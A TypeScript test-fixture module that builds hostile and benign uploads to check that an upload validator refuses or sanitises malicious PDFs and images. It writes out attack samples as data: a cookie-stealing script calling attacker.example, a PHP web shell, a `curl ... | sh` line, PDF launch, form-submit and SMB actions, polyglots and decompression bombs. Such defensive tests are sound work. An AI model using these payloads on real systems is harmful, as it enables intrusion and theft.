/**
 * Hostile and benign uploads, all generated here (no binary fixtures): each hostile file names the
 * refusal it must get (reason code + words of the Vietnamese message), or says that it may be stored
 * only re-encoded, with the payload gone.
 */
import { crc32, createDeflate, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import { appendUpdate, buildPdf, buildPdfWithObjectStream, stream } from './pdf-builder';

/** The EICAR anti-virus test string (harmless by design; every scanner reports it). */
export const EICAR = Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*', 'latin1');

export interface Refused {
  refused: true;
  /** `details.reason` of the API error and the security event. */
  reason: string;
  /** Words the message must contain (API message and form page). */
  message: RegExp;
}

export interface Rewritten {
  refused: false;
  /** Byte strings that must not survive in the stored file. */
  gone: Buffer[];
}

export interface SampleFile {
  id: string;
  /** What the file is, for the test's name. */
  what: string;
  name: string;
  content: Buffer;
  expect: Refused | Rewritten;
  /** Only a virus scanner can catch it. */
  needsScanner?: boolean;
}

// ── building blocks ─────────────────────────────────────────────────────────────────────────────

const MZ = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(62), Buffer.from('PE\0\0'), Buffer.alloc(200, 0x90)]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(8), Buffer.from([2, 0, 0x3e, 0]), Buffer.alloc(220, 0xcc)]);
const HTML = Buffer.from('<!DOCTYPE html><html><body><script>fetch("https://attacker.example/?c="+document.cookie)</script></body></html>');
const PHP = Buffer.from('<?php system($_GET["c"]); ?>');

/** A stored (uncompressed) ZIP archive with one entry, readable by unzip / Java. */
export function makeZip(entry: string, content: Buffer, comment = Buffer.alloc(0), commentLength = comment.length): Buffer {
  const nameBuf = Buffer.from(entry);
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(nameBuf.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(nameBuf.length, 28);
  const cdOffset = local.length + nameBuf.length + content.length;
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(1, 8);
  eocd.writeUInt16LE(1, 10);
  eocd.writeUInt32LE(central.length + nameBuf.length, 12);
  eocd.writeUInt32LE(cdOffset, 16);
  eocd.writeUInt16LE(commentLength, 20);
  return Buffer.concat([local, nameBuf, content, central, nameBuf, eocd, comment]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])));
  return Buffer.concat([head, data, crc]);
}

/** Inserts chunks just before IEND. */
function pngWith(png: Buffer, ...chunks: Buffer[]): Buffer {
  const iend = png.length - 12;
  return Buffer.concat([png.subarray(0, iend), ...chunks, png.subarray(iend)]);
}

/** A grey PNG whose header declares `width × height`; `rows` rows of data are really there. */
function pngDeclaring(width: number, height: number, rows = height): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  const raw = Buffer.alloc((width + 1) * rows); // filter byte 0 + zero pixels per row
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A JPEG with its frame header (SOF) patched to declare other dimensions. */
function jpegDeclaring(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  let sof = -1;
  for (let i = 2; i < out.length - 9; i++) {
    if (out[i] === 0xff && (out[i + 1] === 0xc0 || out[i + 1] === 0xc2)) {
      sof = i;
      break;
    }
  }
  if (sof < 0) throw new Error('no SOF marker');
  out.writeUInt16BE(height, sof + 5);
  out.writeUInt16BE(width, sof + 7);
  return out;
}

/** A COM (comment) segment right after SOI. */
function jpegWithComment(jpeg: Buffer, comment: Buffer): Buffer {
  const seg = Buffer.alloc(4);
  seg[0] = 0xff;
  seg[1] = 0xfe;
  seg.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), seg, comment, jpeg.subarray(2)]);
}

export async function baseJpeg(width = 64, height = 48): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 180, g: 40, b: 40 } } }).jpeg({ quality: 80 }).toBuffer();
}

export async function basePng(width = 64, height = 48): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 30, g: 90, b: 160 } } }).png().toBuffer();
}

/** A phone photo: EXIF with camera, serial and GPS position (Đồng Văn), orientation 6 (rotated). */
export async function photoWithExif(): Promise<Buffer> {
  return sharp({ create: { width: 80, height: 40, channels: 3, background: { r: 20, g: 140, b: 60 } } })
    .jpeg({ quality: 85 })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'MotcuaTestCam', Model: 'GPS-Phone-9', ImageDescription: 'Anh CCCD mat truoc' },
      IFD2: { BodySerialNumber: 'SERIAL-0042-SECRET' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '23/1 16/1 51/1', GPSLongitudeRef: 'E', GPSLongitude: '105/1 21/1 46/1' },
    })
    .toBuffer();
}

/** `times` copies of `chunk`, deflated as one stream without ever holding the whole in memory. */
function deflateRepeated(chunk: Buffer, times: number): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const z = createDeflate({ level: 9 });
    const out: Buffer[] = [];
    z.on('data', (d: Buffer) => out.push(d));
    z.on('end', () => resolve(Buffer.concat(out)));
    z.on('error', reject);
    let n = 0;
    const write = () => {
      while (n < times) {
        n++;
        if (!z.write(chunk)) return void z.once('drain', write);
      }
      z.end();
    };
    write();
  });
}

// ── PDFs with active content ───────────────────────────────────────────────────────────────────

const pdfRefused = (reason: string, message: RegExp): Refused => ({ refused: true, reason, message });

async function pdfLibWithOpenActionJs(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage().drawText('Don de nghi');
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.launchURL("https://attacker.example", true);') }));
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

/** A PDF whose last object is a stream holding a ZIP whose EOCD comment swallows the PDF's tail. */
function pdfZipPolyglot(): Buffer {
  const payload = MZ;
  let commentLength = 0;
  for (let round = 0; round < 4; round++) {
    const zip = makeZip('invoice.exe', payload, Buffer.alloc(0), commentLength);
    const pdf = buildPdf({ objects: [stream('', zip)] });
    const eocdAt = pdf.indexOf(zip.subarray(zip.length - 22));
    const tail = pdf.length - (eocdAt + 22);
    if (tail === commentLength) return pdf;
    commentLength = tail;
  }
  throw new Error('polyglot did not converge');
}

export async function hostileFiles(): Promise<SampleFile[]> {
  const jpeg = await baseJpeg();
  const png = await basePng();
  const plain = buildPdf();
  const files: SampleFile[] = [];
  const add = (id: string, what: string, name: string, content: Buffer, expect: Refused | Rewritten, needsScanner = false) =>
    files.push({ id, what, name, content, expect, needsScanner });

  // PDFs with active content: refused, each with its reason.
  add('pdf-openaction-js', 'PDF running JavaScript on open', 'don.pdf', buildPdf({ catalog: '/OpenAction 6 0 R', objects: ['<< /Type /Action /S /JavaScript /JS (app.alert\\("x"\\);) >>'] }), pdfRefused('pdf.javascript', /JavaScript/));
  add('pdf-openaction-launch', 'PDF launching cmd.exe on open', 'don.pdf', buildPdf({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' }), pdfRefused('pdf.open-action', /Launch/));
  add('pdf-openaction-uri', 'PDF opening a web address on open', 'don.pdf', buildPdf({ catalog: '/OpenAction << /S /URI /URI (https://attacker.example/track) >>' }), pdfRefused('pdf.open-action', /OpenAction/));
  add('pdf-names-js', 'PDF with document-level JavaScript (Names tree)', 'don.pdf', buildPdf({ catalog: '/Names << /JavaScript 6 0 R >>', objects: ['<< /Names [(init) 7 0 R] >>', '<< /S /JavaScript /JS 8 0 R >>', stream('', 'this.exportDataObject({cName: "a", nLaunch: 2});')] }), pdfRefused('pdf.javascript', /JavaScript/));
  add('pdf-page-aa', 'PDF with a page-open additional action', 'don.pdf', buildPdf({ page: '/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>' }), pdfRefused('pdf.javascript', /AA/));
  add('pdf-catalog-aa', 'PDF with a document will-close action', 'don.pdf', buildPdf({ catalog: '/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>' }), pdfRefused('pdf.additional-actions', /AA/));
  add('pdf-link-launch', 'PDF link that launches a program', 'don.pdf', buildPdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >> >>'] }), pdfRefused('pdf.launch', /Launch/));
  add('pdf-link-js', 'PDF link running JavaScript', 'don.pdf', buildPdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /JavaScript /JS (app.alert(1)) >> >>'] }), pdfRefused('pdf.javascript', /JavaScript/));
  add('pdf-field-keystroke', 'PDF form field with keystroke JavaScript', 'to-khai.pdf', buildPdf({ catalog: '/AcroForm << /Fields [6 0 R] >>', page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Widget /FT /Tx /T (ten) /Rect [72 700 300 720] /AA << /K << /S /JavaScript /JS (event.rc = true;) >> >> >>'] }), pdfRefused('pdf.javascript', /JavaScript/));
  add('pdf-js-stream', 'PDF whose JavaScript sits in a compressed stream', 'don.pdf', buildPdf({ catalog: '/OpenAction 6 0 R', objects: ['<< /S /JavaScript /JS 7 0 R >>', stream('', 'app.alert("compressed");', { deflate: true })] }), pdfRefused('pdf.javascript', /JavaScript/));
  add('pdf-embedded-exe', 'PDF with an embedded executable (EmbeddedFiles)', 'ho-so.pdf', buildPdf({ catalog: '/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>', objects: ['<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>', stream('/Type /EmbeddedFile /Subtype /application#2Fx-msdownload', MZ)] }), pdfRefused('pdf.embedded-file', /nhúng/));
  add('pdf-file-attachment', 'PDF with a FileAttachment annotation carrying an ELF', 'ho-so.pdf', buildPdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS << /Type /Filespec /F (run.sh) /EF << /F 7 0 R >> >> >>', stream('/Type /EmbeddedFile', ELF)] }), pdfRefused('pdf.embedded-file', /nhúng/));
  add('pdf-portfolio', 'PDF portfolio (Collection)', 'ho-so.pdf', buildPdf({ catalog: '/Collection << /Type /Collection /View /D >>' }), pdfRefused('pdf.embedded-file', /portfolio/));
  add('pdf-xfa', 'PDF with an XFA form', 'to-khai.pdf', buildPdf({ catalog: '/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>', objects: [stream('', '<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script>app.alert(1)</script></event></subform></template>')] }), pdfRefused('pdf.xfa', /XFA/));
  add('pdf-submitform', 'PDF link that submits the form to a server', 'to-khai.pdf', buildPdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >> >>'] }), pdfRefused('pdf.submit-form', /SubmitForm/));
  add('pdf-importdata', 'PDF importing data from another file', 'to-khai.pdf', buildPdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /ImportData /F (\\\\\\\\attacker\\\\share\\\\data.fdf) >> >>'] }), pdfRefused('pdf.import-data', /ImportData/));
  add('pdf-richmedia', 'PDF with a RichMedia (Flash) annotation', 'don.pdf', buildPdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [] >> >> >>'] }), pdfRefused('pdf.multimedia', /đa phương tiện/));
  add('pdf-rendition', 'PDF with a Rendition action', 'don.pdf', buildPdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Rendition /OP 0 >> >>'] }), pdfRefused('pdf.multimedia', /đa phương tiện/));
  add('pdf-gotor-unc', 'PDF link opening a remote file over SMB (GoToR)', 'don.pdf', buildPdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /GoToR /F (\\\\\\\\203.0.113.9\\\\share\\\\x.pdf) /D [0 /Fit] >> >>'] }), pdfRefused('pdf.remote-goto', /GoToR/));
  add('pdf-gotoe', 'PDF link into an embedded file (GoToE)', 'don.pdf', buildPdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /GoToE /T << /R /C /N (x.pdf) >> >> >>'] }), pdfRefused('pdf.remote-goto', /GoToE/));
  add('pdf-uri-javascript', 'PDF link to a javascript: URI', 'don.pdf', buildPdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>'] }), pdfRefused('pdf.unsafe-uri', /javascript:/));
  add('pdf-uri-file', 'PDF link to a file: URI', 'don.pdf', buildPdf({ page: '/Annots [6 0 R]', objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> >>'] }), pdfRefused('pdf.unsafe-uri', /file:/));
  add('pdf-hex-names', 'PDF hiding /JavaScript behind #xx name escapes', 'don.pdf', buildPdf({ catalog: '/OpenAction << /S /J#61va#53cript /J#73 (app.alert(1)) >>' }), pdfRefused('pdf.javascript', /JavaScript/));
  add('pdf-objstm-js', 'PDF with JavaScript inside a compressed object stream', 'don.pdf', buildPdfWithObjectStream({ catalog: '/OpenAction 6 0 R', objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] }), pdfRefused('pdf.javascript', /JavaScript/));
  add('pdf-pdflib-js', 'PDF written by pdf-lib with an OpenAction script (object streams)', 'don.pdf', await pdfLibWithOpenActionJs(), pdfRefused('pdf.javascript', /JavaScript/));
  add('pdf-incremental-js', 'PDF whose incremental update adds JavaScript', 'don.pdf', appendUpdate(plain, [{ number: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>' }, { number: 6, body: '<< /S /JavaScript /JS (app.alert(2)) >>' }], 7), pdfRefused('pdf.javascript', /JavaScript/));
  add('pdf-encrypted', 'encrypted PDF (contents cannot be inspected)', 'don.pdf', buildPdf({ trailer: '/Encrypt 6 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]', objects: ['<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <00> /U <00> >>'] }), pdfRefused('pdf.encrypted', /mật khẩu/));
  const bomb = await deflateRepeated(Buffer.alloc(1024 * 1024, 0x20), 256);
  add('pdf-objstm-bomb', 'PDF whose object stream inflates to 256 MB', 'don.pdf', buildPdf({ objects: [Buffer.concat([Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`), bomb, Buffer.from('\nendstream')])] }), pdfRefused('pdf.compression-bomb', /bom giải nén/));

  // Not a PDF under a %PDF- header, polyglots, broken files.
  add('pdf-header-elf', '%PDF- header over an ELF body', 'hoa-don.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), ELF]), pdfRefused('pdf.foreign-content', /ELF/));
  add('pdf-header-mz', '%PDF- header over a Windows executable', 'hoa-don.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), MZ, Buffer.from('\n%%EOF\n')]), pdfRefused('pdf.foreign-content', /\.exe/));
  add('pdf-header-html', '%PDF- header over an HTML page', 'hoa-don.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), HTML, Buffer.from('\n%%EOF\n')]), pdfRefused('pdf.foreign-content', /HTML/));
  add('pdf-plus-zip', 'PDF with a ZIP archive appended', 'ho-so.pdf', Buffer.concat([plain, makeZip('payload.exe', MZ)]), pdfRefused('polyglot.zip', /ZIP/));
  add('pdf-zip-polyglot', 'PDF/ZIP polyglot (ZIP inside a stream, EOCD comment covers the tail)', 'ho-so.pdf', pdfZipPolyglot(), pdfRefused('polyglot.zip', /ZIP/));
  add('pdf-plus-html', 'PDF with an HTML page appended', 'ho-so.pdf', Buffer.concat([plain, HTML]), pdfRefused('pdf.trailing-data', /HTML/));
  add('pdf-plus-elf', 'PDF with an ELF binary appended', 'ho-so.pdf', Buffer.concat([plain, ELF]), pdfRefused('pdf.trailing-data', /ELF/));
  add('pdf-html-comment', 'PDF hiding an HTML page in a comment', 'ho-so.pdf', buildPdf({ catalog: '\n%<html><script>alert(document.domain)</script></html>\n' }), pdfRefused('pdf.foreign-content', /HTML/));
  add('pdf-junk-between', 'PDF with a script block between its objects', 'ho-so.pdf', Buffer.from(plain.toString('latin1').replace('2 0 obj', '<script>alert(1)</script>\n2 0 obj'), 'latin1'), pdfRefused('pdf.foreign-content', /HTML/));
  add('pdf-truncated', 'PDF cut in half', 'ho-so.pdf', plain.subarray(0, Math.floor(plain.length / 2)), pdfRefused('pdf.truncated', /cắt cụt/));
  add('pdf-no-pages', 'PDF with no page tree', 'ho-so.pdf', Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'), pdfRefused('pdf.no-pages', /không có trang/));
  add('pdf-broken-object', 'PDF with an unterminated object', 'ho-so.pdf', Buffer.from(plain.toString('latin1').replace('<< /Type /Pages', '<< /Type /Pages << [[[ (unclosed'), 'latin1'), pdfRefused('pdf.unparseable', /hỏng/));

  // Images with payloads, bombs, broken images.
  const imageRefused = (reason: string, message: RegExp): Refused => ({ refused: true, reason, message });
  add('jpeg-plus-php', 'JPEG with PHP appended after the end marker', 'anh.jpg', Buffer.concat([jpeg, PHP]), imageRefused('image.appended-payload', /PHP/));
  add('jpeg-plus-html', 'JPEG with HTML appended', 'anh.jpg', Buffer.concat([jpeg, HTML]), imageRefused('image.appended-payload', /HTML/));
  add('png-plus-php', 'PNG with PHP appended after IEND', 'anh.png', Buffer.concat([png, PHP]), imageRefused('image.appended-payload', /PHP/));
  add('png-plus-html', 'PNG with HTML appended', 'anh.png', Buffer.concat([png, HTML]), imageRefused('image.appended-payload', /HTML/));
  add('jpeg-plus-zip', 'JPEG/ZIP polyglot (JAR-style)', 'anh.jpg', Buffer.concat([jpeg, makeZip('Main.class', Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]))]), imageRefused('polyglot.zip', /ZIP/));
  add('png-plus-zip', 'PNG/ZIP polyglot', 'anh.png', Buffer.concat([png, makeZip('a.exe', MZ)]), imageRefused('polyglot.zip', /ZIP/));
  add('jpeg-plus-exe', 'JPEG with a Windows executable appended', 'anh.jpg', Buffer.concat([jpeg, MZ]), imageRefused('image.appended-payload', /\.exe/));
  add('png-50000', 'PNG declaring 50,000 × 50,000 pixels (decompression bomb)', 'anh.png', pngDeclaring(50000, 50000, 64), imageRefused('image.too-large', /50000 × 50000/));
  add('png-10000-bomb', 'complete 10,000 × 10,000 PNG (100 MP from ~100 KB)', 'anh.png', pngDeclaring(10000, 10000), imageRefused('image.too-large', /10000 × 10000/));
  add('jpeg-65000', 'JPEG declaring 65,000 × 65,000 pixels', 'anh.jpg', jpegDeclaring(jpeg, 65000, 65000), imageRefused('image.too-large', /65000 × 65000/));
  add('jpeg-truncated', 'JPEG cut in half', 'anh.jpg', jpeg.subarray(0, Math.floor(jpeg.length / 2)), imageRefused('image.corrupt', /hỏng/));
  const badCrc = Buffer.from(png);
  badCrc[badCrc.length - 12 - 1] ^= 0xff; // last byte of the IDAT CRC
  add('png-bad-crc', 'PNG with a corrupted chunk checksum', 'anh.png', badCrc, imageRefused('image.corrupt', /hỏng/));
  add('jpeg-header-html', 'JPEG signature over an HTML body', 'anh.jpg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), HTML]), imageRefused('image.corrupt', /hỏng/));
  add('png-header-elf', 'PNG signature over an ELF body', 'anh.png', Buffer.concat([png.subarray(0, 8), ELF]), imageRefused('image.corrupt', /hỏng/));

  // Other types dressed as accepted ones.
  const typeRefused = (message: RegExp): Refused => ({ refused: true, reason: 'type.unknown', message });
  add('elf-as-jpg', 'ELF executable named .jpg', 'anh.jpg', ELF, typeRefused(/ELF/));
  add('exe-as-pdf', 'Windows executable named .pdf', 'hoa-don.pdf', MZ, typeRefused(/\.exe/));
  add('html-as-pdf', 'HTML page named .pdf', 'hoa-don.pdf', HTML, typeRefused(/HTML/));
  add('svg-as-png', 'SVG with script named .png', 'anh.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'), typeRefused(/SVG/));
  add('zip-as-pdf', 'ZIP archive named .pdf', 'ho-so.pdf', makeZip('ho-so.pdf', plain), typeRefused(/tệp nén/));
  add('script-as-pdf', 'shell script named .pdf', 'ho-so.pdf', Buffer.from('#!/bin/sh\ncurl https://attacker.example | sh\n'), typeRefused(/script/));

  // EICAR: only the virus scanner can tell.
  const virus = (): Refused => ({ refused: true, reason: 'virus', message: /mã độc/ });
  add('eicar', 'the EICAR test file', 'eicar.pdf', EICAR, virus(), true);
  add('eicar-in-pdf', 'a valid PDF carrying the EICAR string in a stream', 'ho-so.pdf', buildPdf({ objects: [stream('', EICAR)] }), virus(), true);
  add('eicar-after-jpeg', 'a JPEG with the EICAR string appended', 'anh.jpg', Buffer.concat([jpeg, EICAR]), virus(), true);
  add('eicar-in-png-text', 'a PNG with the EICAR string in a text chunk', 'anh.png', pngWith(png, pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), EICAR]))), virus(), true);

  // Payloads inside image metadata or unnamed trailers: stored only re-encoded, payload gone.
  add('jpeg-php-comment', 'JPEG with PHP in a comment segment', 'anh.jpg', jpegWithComment(jpeg, PHP), { refused: false, gone: [PHP] });
  const exifHtml = await sharp(jpeg).withExif({ IFD0: { ImageDescription: '<script>alert(1)</script>', Artist: '<?php system($_GET[1]); ?>' } }).jpeg().toBuffer();
  add('jpeg-exif-script', 'JPEG with script and PHP in EXIF fields', 'anh.jpg', exifHtml, { refused: false, gone: [Buffer.from('<script>'), Buffer.from('<?php'), Buffer.from('Exif\0\0')] });
  add('png-php-text', 'PNG with PHP in a tEXt chunk', 'anh.png', pngWith(png, pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), PHP]))), { refused: false, gone: [PHP, Buffer.from('tEXt')] });
  const opaque = Buffer.from('SEFHmotion-photo-trailer-0123456789abcdef'.repeat(40));
  add('jpeg-opaque-trailer', 'JPEG with an opaque trailer (phone-style)', 'anh.jpg', Buffer.concat([jpeg, opaque]), { refused: false, gone: [opaque.subarray(0, 40)] });

  return files;
}

export interface BenignFile {
  id: string;
  name: string;
  content: Buffer;
  mimeType: string;
  /** Stored byte for byte (PDFs), or re-encoded (images). */
  storedAsSent: boolean;
}

/** Ordinary uploads that must keep working. */
export async function benignFiles(): Promise<BenignFile[]> {
  const doc = await PDFDocument.create();
  const page = doc.addPage();
  page.drawText('Giay xac nhan cu tru');
  // A web link (kept: not active) and "open at page 1" (a destination, not an action).
  const link = doc.context.register(
    doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 20], A: { S: 'URI', URI: PDFString.of('https://dichvucong.gov.vn') } }),
  );
  page.node.set(PDFName.of('Annots'), doc.context.obj([link]));
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([page.ref, PDFName.of('Fit')]));
  return [
    { id: 'pdf-plain', name: 'giay-to.pdf', content: buildPdf(), mimeType: 'application/pdf', storedAsSent: true },
    { id: 'pdf-objstm-link', name: 'xac-nhan.pdf', content: Buffer.from(await doc.save({ useObjectStreams: true })), mimeType: 'application/pdf', storedAsSent: true },
    { id: 'pdf-incremental', name: 'da-sua.pdf', content: appendUpdate(buildPdf(), [{ number: 6, body: '<< /Producer (motcua test) >>' }], 7, '/Info 6 0 R'), mimeType: 'application/pdf', storedAsSent: true },
    { id: 'jpeg-photo-exif', name: 'anh-cccd.jpg', content: await photoWithExif(), mimeType: 'image/jpeg', storedAsSent: false },
    { id: 'png-scan', name: 'ban-quet.png', content: await basePng(120, 90), mimeType: 'image/png', storedAsSent: false },
  ];
}
